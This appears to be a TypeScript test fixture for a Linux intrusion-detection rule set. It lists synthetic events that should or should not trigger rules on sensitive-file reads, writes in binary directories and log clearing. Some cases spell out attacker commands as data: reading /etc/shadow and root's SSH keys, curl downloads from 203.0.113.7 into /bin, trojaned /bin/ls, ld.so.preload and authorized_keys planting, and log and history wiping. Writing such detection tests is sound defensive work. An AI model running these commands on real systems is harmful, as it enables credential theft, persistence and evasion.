// Fire / look-alike events for the rules of 20-file-sensitive.yaml, 21-file-system-dirs.yaml, 22-file-logs.yaml.
import { type Actor, type RuleCases, open, openRead, openWrite, pathCall } from '../event-builder.js';

const admin: Partial<Actor> = { user: 'alice', uid: 1000, loginuid: 1000 };
const dpkg = ['sh /var/lib/dpkg/info/htop.postinst configure', 'dpkg --configure htop', 'apt-get install htop', 'bash'];
const php = ['php-fpm8.2 pool www', 'php-fpm8.2 master process', 'systemd'];

export const fileCases: RuleCases[] = [
  {
    rule: 'Sensitive file read by a trusted server after start-up',
    fires: {
      'nginx worker reads /etc/shadow a day after start': openRead({ cmd: 'nginx', runningFor: 86400, ancestors: ['nginx', 'systemd'] }, '/etc/shadow'),
      'postgres reads a private ssh key': openRead({ cmd: 'postgres', user: 'postgres', uid: 110, runningFor: 600, ancestors: ['postgres', 'systemd'] }, '/root/.ssh/id_ed25519'),
    },
    quiet: {
      'nginx reads a file at start-up': openRead({ cmd: 'nginx', runningFor: 2, ancestors: ['systemd'] }, '/etc/shadow'),
      'nginx reads its configuration later': openRead({ cmd: 'nginx', runningFor: 86400, ancestors: ['systemd'] }, '/etc/nginx/nginx.conf'),
      'sshd authenticates a login': openRead({ cmd: 'sshd', runningFor: 86400, ancestors: ['sshd', 'systemd'] }, '/etc/shadow'),
    },
  },
  {
    rule: 'Sensitive file read by an untrusted program',
    fires: {
      'cat /etc/shadow': openRead({ cmd: 'cat /etc/shadow', ancestors: ['bash', 'sshd'] }, '/etc/shadow'),
      'a script steals root\'s ssh key': openRead({ cmd: 'python3 steal.py', ancestors: ['sh', 'cron'] }, '/root/.ssh/id_rsa'),
      'less /etc/sudoers': openRead({ cmd: 'less /etc/sudoers', ancestors: ['bash'] }, '/etc/sudoers'),
      'a file of /etc/pam.d': openRead({ cmd: 'python3 x.py', ancestors: ['bash'] }, '/etc/pam.d/common-auth'),
      'a host key': openRead({ cmd: 'tar czf /tmp/k.tgz /etc/ssh', ancestors: ['bash'] }, '/etc/ssh/ssh_host_ed25519_key'),
    },
    quiet: {
      'sudo reads sudoers': openRead({ cmd: 'sudo -i', ...admin, ancestors: ['bash', 'sshd'] }, '/etc/sudoers'),
      'cat /etc/hosts': openRead({ cmd: 'cat /etc/hosts', ...admin }, '/etc/hosts'),
      'a public key': openRead({ cmd: 'cat /home/alice/.ssh/id_rsa.pub', ...admin }, '/home/alice/.ssh/id_rsa.pub'),
      'the ssh client uses its key': openRead({ cmd: 'ssh git@github.com', ...admin, ancestors: ['git push', 'bash'] }, '/home/alice/.ssh/id_ed25519'),
      'a public host key': openRead({ cmd: 'cat /etc/ssh/ssh_host_ed25519_key.pub', ...admin }, '/etc/ssh/ssh_host_ed25519_key.pub'),
      'etckeeper commits /etc before a package install': openRead({ cmd: 'git add -A', ancestors: ['etckeeper pre-install', 'sh -c etckeeper pre-install', 'apt-get install htop'] }, '/etc/shadow'),
    },
  },
  {
    rule: 'Sensitive file read through directory traversal',
    fires: {
      'PHP includes ../../../etc/passwd': openRead({ cmd: 'php-fpm8.2 pool www', user: 'www-data', uid: 33, ancestors: php.slice(1) }, '/etc/passwd', '/var/www/html/../../../etc/passwd'),
      'a server reads a key through ../..': openRead({ cmd: 'node server.js', ancestors: ['systemd'] }, '/root/.ssh/id_rsa', 'public/../../../root/.ssh/id_rsa'),
    },
    quiet: {
      'the same file by its plain path': openRead({ cmd: 'php-fpm8.2 pool www', user: 'www-data', uid: 33, ancestors: php.slice(1) }, '/etc/passwd', '/etc/passwd'),
      'a command typed in a shell': openRead({ cmd: 'cat ../../etc/passwd', ...admin, ancestors: ['bash', 'sshd'] }, '/etc/passwd', '../../etc/passwd'),
      'traversal to a file outside /etc and ssh': openRead({ cmd: 'node server.js', ancestors: ['systemd'] }, '/srv/app/static/logo.png', 'public/../../static/logo.png'),
    },
  },
  {
    rule: 'Link created over a sensitive file',
    fires: {
      'symlink to /etc/shadow in the web root': pathCall({ cmd: 'ln -s /etc/shadow /var/www/html/s.txt' }, 'symlinkat', { target: '/etc/shadow', linkdirfd: 'AT_FDCWD', linkpath: '/var/www/html/s.txt' }),
      'hard link to sudoers': pathCall({ cmd: 'ln /etc/sudoers /tmp/s' }, 'linkat', { olddir: 'AT_FDCWD', oldpath: '/etc/sudoers', newdir: 'AT_FDCWD', newpath: '/tmp/s', flags: '0' }),
    },
    quiet: {
      'symlink to /etc/hosts': pathCall({ cmd: 'ln -s /etc/hosts /tmp/h' }, 'symlinkat', { target: '/etc/hosts', linkdirfd: 'AT_FDCWD', linkpath: '/tmp/h' }),
    },
  },
  {
    rule: 'File created below /dev',
    fires: {
      'hidden file in /dev': openWrite({ cmd: 'bash', ancestors: ['sshd'] }, '/dev/.x11-unix-lock'),
      'dropper writes a binary to /dev': open({ cmd: 'curl -o /dev/kthreadd http://203.0.113.7/k' }, '/dev/kthreadd', 'O_WRONLY|O_CREAT|O_TRUNC'),
    },
    quiet: {
      'redirect to /dev/null': openWrite({ cmd: 'bash', ...admin }, '/dev/null'),
      'python multiprocessing semaphore in /dev/shm': open({ cmd: 'python3 -m pytest', ...admin }, '/dev/shm/sem.mp-4fk2', 'O_RDWR|O_CREAT|O_EXCL'),
      'writing a terminal': open({ cmd: 'bash', ...admin }, '/dev/pts/0', 'O_WRONLY|O_CREAT|O_TRUNC'),
      'writing a device without creating': open({ cmd: 'dd of=/dev/sdb', ...admin }, '/dev/sdb', 'O_WRONLY'),
    },
  },
  {
    rule: 'File opened for writing below a binary directory',
    fires: {
      'cp over /usr/bin/ls': openWrite({ cmd: 'cp /tmp/ls /usr/bin/ls' }, '/usr/bin/ls'),
      'curl drops into /bin': openWrite({ cmd: 'curl -o /bin/sshd-helper http://203.0.113.7/x', ancestors: ['sh', 'nginx'] }, '/bin/sshd-helper'),
    },
    quiet: {
      'dpkg unpacks a binary': openWrite({ cmd: 'dpkg --unpack htop.deb', ancestors: ['apt-get install htop', 'bash'] }, '/usr/bin/htop.dpkg-new'),
      'writing /usr/share': openWrite({ cmd: 'cp a /usr/share/doc/a' }, '/usr/share/doc/a'),
      'a directory that only starts like /usr/bin': openWrite({ cmd: 'cp a /usr/binaries/a' }, '/usr/binaries/a'),
    },
  },
  {
    rule: 'Directory created below a binary directory',
    fires: {
      'hidden directory in /usr/bin': pathCall({ cmd: 'mkdir /usr/bin/.cache' }, 'mkdirat', { dirfd: 'AT_FDCWD', path: '/usr/bin/.cache', mode: '0755' }),
      'mkdir in /sbin': pathCall({ cmd: 'mkdir /sbin/x' }, 'mkdir', { path: '/sbin/x', mode: '0755' }),
      'relative mkdir with cwd /usr/sbin': pathCall({ cmd: 'mkdir .x', cwd: '/usr/sbin/' }, 'mkdirat', { dirfd: '-100(AT_FDCWD)', path: '.x', mode: '0755' }),
    },
    quiet: {
      'mkdir in a home directory': pathCall({ cmd: 'mkdir /home/alice/bin', ...admin }, 'mkdirat', { dirfd: 'AT_FDCWD', path: '/home/alice/bin', mode: '0755' }),
      'dpkg creating a directory': pathCall({ cmd: 'dpkg --unpack x.deb', ancestors: ['apt-get install x'] }, 'mkdirat', { dirfd: 'AT_FDCWD', path: '/usr/bin/x11', mode: '0755' }),
    },
  },
  {
    rule: 'File renamed, removed or linked below a binary directory',
    fires: {
      'mv a trojan over /bin/ls': pathCall({ cmd: 'mv /tmp/ls /bin/ls' }, 'renameat2', { olddirfd: 'AT_FDCWD', oldpath: '/tmp/ls', newdirfd: 'AT_FDCWD', newpath: '/bin/ls', flags: '0' }),
      'rm of a security tool': pathCall({ cmd: 'rm -f /usr/sbin/auditctl' }, 'unlinkat', { dirfd: 'AT_FDCWD', name: '/usr/sbin/auditctl', flags: '0' }),
      'symlink planted in /usr/bin': pathCall({ cmd: 'ln -sf /tmp/evil /usr/bin/vi' }, 'symlinkat', { target: '/tmp/evil', linkdirfd: 'AT_FDCWD', linkpath: '/usr/bin/vi' }),
      'mv with relative names in /usr/bin (cd /usr/bin && mv evil ls)': pathCall({ cmd: 'mv evil ls', cwd: '/usr/bin/' }, 'renameat2', { olddirfd: '-100(AT_FDCWD)', oldpath: 'evil', newdirfd: '-100(AT_FDCWD)', newpath: 'ls', flags: '0' }),
      'rm -r removing below /sbin through a directory fd': pathCall({ cmd: 'rm -rf /sbin/tools' }, 'unlinkat', { dirfd: '4(<d>/sbin/tools)', name: 'helper', flags: '0' }),
    },
    quiet: {
      'mv inside a home directory': pathCall({ cmd: 'mv a b', ...admin }, 'renameat2', { olddirfd: 'AT_FDCWD', oldpath: '/home/alice/a', newdirfd: 'AT_FDCWD', newpath: '/home/alice/b', flags: '0' }),
      'relative names in a home directory': pathCall({ cmd: 'mv a b', ...admin, cwd: '/home/alice/' }, 'renameat2', { olddirfd: '-100(AT_FDCWD)', oldpath: 'a', newdirfd: '-100(AT_FDCWD)', newpath: 'b', flags: '0' }),
      'rm -r below a directory that only starts like /usr/bin': pathCall({ cmd: 'rm -rf /usr/binaries/x' }, 'unlinkat', { dirfd: '4(<d>/usr/binaries/x)', name: 'helper', flags: '0' }),
      'dpkg installs the new binary': pathCall({ cmd: 'dpkg --unpack htop.deb', ancestors: ['apt-get install htop'] }, 'rename', { oldpath: '/usr/bin/htop.dpkg-new', newpath: '/usr/bin/htop' }),
    },
  },
  {
    rule: 'File opened for writing below a monitored directory',
    fires: {
      'key appended to authorized_keys': open({ cmd: 'bash', ancestors: ['sh -c echo', 'nginx'] }, '/home/alice/.ssh/authorized_keys', 'O_WRONLY|O_CREAT|O_APPEND'),
      'root authorized_keys': openWrite({ cmd: 'tee -a /root/.ssh/authorized_keys' }, '/root/.ssh/authorized_keys'),
      'library planted in /usr/lib': openWrite({ cmd: 'cp evil.so /usr/lib/x86_64-linux-gnu/libaudit.so.1' }, '/usr/lib/x86_64-linux-gnu/libaudit.so.1'),
      'kernel image replaced': openWrite({ cmd: 'cp vmlinuz /boot/vmlinuz-6.1.0-18-amd64' }, '/boot/vmlinuz-6.1.0-18-amd64'),
      'tool dropped in /usr/local/bin': openWrite({ cmd: 'wget -O /usr/local/bin/kubectl http://203.0.113.7/k' }, '/usr/local/bin/kubectl'),
    },
    quiet: {
      'ssh records a host key': open({ cmd: 'ssh git@github.com', ...admin }, '/home/alice/.ssh/known_hosts', 'O_WRONLY|O_CREAT|O_APPEND'),
      'pip installs a package': openWrite({ cmd: 'pip install requests', ancestors: ['sudo pip install requests', 'bash'] }, '/usr/local/lib/python3.11/dist-packages/requests/api.py'),
      'editing a file in a home directory': openWrite({ cmd: 'vim notes.md', ...admin }, '/home/alice/notes.md'),
      'reading a library': openRead({ cmd: 'ld -o app main.o', ...admin }, '/usr/lib/x86_64-linux-gnu/libc.so'),
      'a kernel package installs an initramfs': openWrite({ cmd: 'mkinitramfs -o /boot/initrd.img-6.1.0-18-amd64.new', ancestors: ['update-initramf -c -k 6.1.0-18-amd64', 'run-parts /etc/kernel/postinst.d', 'sh /var/lib/dpkg/info/linux-image.postinst', 'dpkg --configure'] }, '/boot/initrd.img-6.1.0-18-amd64.new'),
      'python caches bytecode': openWrite({ cmd: 'python3 -m http.server' }, '/usr/local/lib/python3.11/dist-packages/x/__pycache__/y.cpython-311.pyc'),
      'locale-gen compiles the locale archive': openWrite({ cmd: 'localedef -i en_US -f UTF-8 en_US.UTF-8', ancestors: ['locale-gen', 'bash'] }, '/usr/lib/locale/locale-archive'),
    },
  },
  {
    rule: 'File opened for writing below /etc',
    fires: {
      'editor writes crontab': openWrite({ cmd: 'vim /etc/crontab' }, '/etc/crontab'),
      'ld.so.preload planted': openWrite({ cmd: 'bash', ancestors: ['sh -c', 'nginx'] }, '/etc/ld.so.preload'),
      'sudoers.d entry from a script': openWrite({ cmd: 'python3 persist.py' }, '/etc/sudoers.d/99-support'),
      'sed writing a file that is not its temporary file': openWrite({ cmd: 'sed -n w/etc/cron.d/job /tmp/x' }, '/etc/cron.d/job'),
    },
    quiet: {
      'dpkg installs a configuration file': openWrite({ cmd: 'dpkg --unpack htop.deb', ancestors: ['apt-get install htop'] }, '/etc/htoprc.dpkg-new'),
      'a maintainer script edits configuration': openWrite({ cmd: 'sed -i s/a/b/ /etc/default/htop', ancestors: dpkg }, '/etc/default/htop'),
      'useradd writes /etc/passwd': openWrite({ cmd: 'useradd -m bob' }, '/etc/passwd+'),
      'ldconfig writes its cache': openWrite({ cmd: 'ldconfig' }, '/etc/ld.so.cache~'),
      'writing /etcd-data': openWrite({ cmd: 'etcd' }, '/etcd-data/member/wal/0.wal'),
      'reading /etc/hosts': openRead({ cmd: 'vim /etc/hosts' }, '/etc/hosts'),
      'dhclient-script installs resolv.conf': openWrite({ cmd: 'cp /etc/resolv.conf.dhclient-new /etc/resolv.conf', ancestors: ['dhclient-script', 'dhclient -4 eth0', 'systemd'] }, '/etc/resolv.conf'),
      'etckeeper\'s git writes /etc/.git': openWrite({ cmd: 'git commit -m saving', ancestors: ['etckeeper commit', 'apt-get install htop'] }, '/etc/.git/index.lock'),
      'a cloud-init module writes /etc/hosts': openWrite({ cmd: 'python3 -m cloudinit.cmd.main', ancestors: ['cloud-init modules --mode config', 'systemd'] }, '/etc/hosts'),
    },
  },
  {
    rule: 'File opened for writing below / or /root',
    fires: {
      'tool dropped in /root': openWrite({ cmd: 'curl -o /root/.x http://203.0.113.7/x' }, '/root/.x'),
      'script dropped in /': openWrite({ cmd: 'bash', ancestors: ['sh', 'nginx'] }, '/evil.sh'),
      'root .bashrc changed': open({ cmd: 'bash', ancestors: ['sh -c', 'cron'] }, '/root/.bashrc', 'O_WRONLY|O_CREAT|O_APPEND'),
      'a user service planted in ~/.config/systemd': openWrite({ cmd: 'cp x /root/.config/systemd/user/updater.service' }, '/root/.config/systemd/user/updater.service'),
      'an autostart entry': openWrite({ cmd: 'python3 persist.py' }, '/root/.config/autostart/updater.desktop'),
    },
    quiet: {
      'shell history': open({ cmd: 'bash' }, '/root/.bash_history', 'O_WRONLY|O_CREAT|O_TRUNC'),
      'pip cache': openWrite({ cmd: 'python3 -m venv x' }, '/root/.cache/pip/http/a/b'),
      'htop saves its settings': openWrite({ cmd: 'htop' }, '/root/.config/htop/htoprc'),
      'kubectl discovery cache': openWrite({ cmd: 'kubectl get pods' }, '/root/.kube/cache/discovery/10.0.0.1_6443/v1/serverresources.json'),
      'a directory that only starts like /root': openWrite({ cmd: 'cp a /rootfs/a' }, '/rootfs/a'),
      'a user home directory': openWrite({ cmd: 'vim x', ...admin }, '/home/alice/x'),
    },
  },
  {
    rule: 'Rpm database opened for writing by a non-package program',
    fires: {
      'a script writes the rpm database': openWrite({ cmd: 'python3 tamper.py' }, '/var/lib/rpm/Packages'),
      'new rpmdb location': openWrite({ cmd: 'sqlite3 /usr/lib/sysimage/rpm/rpmdb.sqlite' }, '/usr/lib/sysimage/rpm/rpmdb.sqlite'),
    },
    quiet: {
      'rpm installs a package': openWrite({ cmd: 'rpm -ivh x.rpm' }, '/var/lib/rpm/Packages'),
      'dnf updates': openWrite({ cmd: 'dnf upgrade -y' }, '/usr/lib/sysimage/rpm/rpmdb.sqlite'),
      'chef-client counts as package management': openWrite({ cmd: 'chef-client', ancestors: ['systemd'] }, '/var/lib/rpm/__db.001'),
      'reading the rpm database': openRead({ cmd: 'python3 query.py' }, '/var/lib/rpm/Packages'),
    },
  },
  {
    rule: 'Log files cleared',
    fires: {
      'auth.log truncated by a shell redirect': openWrite({ cmd: 'bash', ancestors: ['sshd'] }, '/var/log/auth.log'),
      'wtmp removed': pathCall({ cmd: 'rm -f /var/log/wtmp' }, 'unlinkat', { dirfd: 'AT_FDCWD', name: '/var/log/wtmp', flags: '0' }),
      'syslog moved away': pathCall({ cmd: 'mv /var/log/syslog /tmp/s' }, 'renameat2', { olddirfd: 'AT_FDCWD', oldpath: '/var/log/syslog', newdirfd: 'AT_FDCWD', newpath: '/tmp/s', flags: '0' }),
    },
    quiet: {
      'logrotate copytruncate': openWrite({ cmd: 'logrotate /etc/logrotate.conf', ancestors: ['systemd'] }, '/var/log/syslog'),
      'appending to a log': open({ cmd: 'bash', ...admin }, '/var/log/syslog', 'O_WRONLY|O_CREAT|O_APPEND'),
      'truncating an application log': openWrite({ cmd: 'bash', ...admin }, '/var/log/myapp/debug.log'),
    },
  },
  {
    rule: 'Shell history deleted or renamed',
    fires: {
      'rm .bash_history': pathCall({ cmd: 'rm -f /home/alice/.bash_history', ...admin }, 'unlinkat', { dirfd: 'AT_FDCWD', name: '/home/alice/.bash_history', flags: '0' }),
      'mv root history away': pathCall({ cmd: 'mv /root/.zsh_history /tmp/h' }, 'rename', { oldpath: '/root/.zsh_history', newpath: '/tmp/h' }),
    },
    quiet: {
      'bash saves history through a temporary file': pathCall({ cmd: 'bash', ...admin }, 'rename', { oldpath: '/home/alice/.bash_history-4242.tmp', newpath: '/home/alice/.bash_history' }),
      'removing an unrelated file': pathCall({ cmd: 'rm notes.txt', ...admin }, 'unlinkat', { dirfd: 'AT_FDCWD', name: '/home/alice/notes.txt', flags: '0' }),
    },
  },
];
